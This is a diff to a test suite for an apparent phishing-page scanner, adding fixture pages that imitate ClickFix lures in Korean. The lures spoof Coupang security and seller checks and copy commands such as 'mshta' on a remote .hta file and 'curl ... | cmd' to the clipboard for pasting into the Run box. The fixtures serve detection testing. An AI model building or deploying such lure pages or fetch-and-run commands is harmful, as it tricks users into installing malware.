@@ -81,6 +81,36 @@ describe("author R's kits", () => {
     );
     expect(scan(faq).verdict).toBe('clean');
   });
+  it('reads a ClickFix kit whose button copies the command in its onclick, or whose command fetches and runs a program from the Run box', () => {
+    const steps =
+      '<ol><li><kbd>Win</kbd> + <kbd>R</kbd> 을 누르세요</li><li><kbd>Ctrl</kbd> + <kbd>V</kbd> 로 붙여 넣으세요</li><li><kbd>Enter</kbd></li></ol>';
+    const check = page(
+      '보안 확인',
+      `<div class="logo">쿠팡</div><h2>쿠팡 보안 확인</h2><p>☑ 로봇이 아닙니다</p>${steps}` +
+        `<button onclick="navigator.clipboard.writeText(k)">확인 시작</button><script>var k='mshta https://v.kit.example/a.hta';</script>`,
+    );
+    expect(scan(check).verdict).toBe('suspicious-page');
+    const seller = page(
+      '판매자 인증',
+      `<h2>쿠팡 WING 판매자 보안 인증</h2><p>아래 버튼을 누른 뒤 <b>Windows 키 + R</b>, <b>Ctrl + V</b>, <b>Enter</b>.</p>` +
+        `<button id="go">인증</button><script>go.onclick=()=>navigator.clipboard.writeText("cmd /c curl -s kit.example/x|cmd")</script>`,
+    );
+    expect(scan(seller).verdict).toBe('suspicious-page');
+    // a how-to that has the reader paste a system tool's name into the Run box verifies nothing and fetches nothing
+    const howTo = page(
+      '프로그램 제거 방법 - 컴알못 블로그',
+      `<h1>쿠팡 PC 알림 프로그램 지우는 법</h1><p>${'<b>Win + R</b> 을 누르고 <b>Ctrl + V</b> 로 붙여 넣은 뒤 Enter.'}</p>` +
+        `<button onclick="navigator.clipboard.writeText('appwiz.cpl')">명령 복사</button>`,
+    );
+    expect(scan(howTo).verdict).toBe('clean');
+    // a seller tool's install line pasted into PowerShell, not the Run box
+    const install = page(
+      '설치 - 주문모아',
+      `<h1>주문모아 설치</h1><p>쿠팡·스마트스토어 주문을 한곳에 모읍니다. PowerShell 을 열고 아래 명령을 붙여 넣으세요.</p>` +
+        `<pre>iwr -useb get.jumunmoa.example/install.ps1 | iex</pre><button onclick="navigator.clipboard.writeText('iwr -useb get.jumunmoa.example/install.ps1 | iex')">복사</button>`,
+    );
+    expect(scan(install).verdict).toBe('clean');
+  });
 });
 
 describe("author R's honest pages", () => {
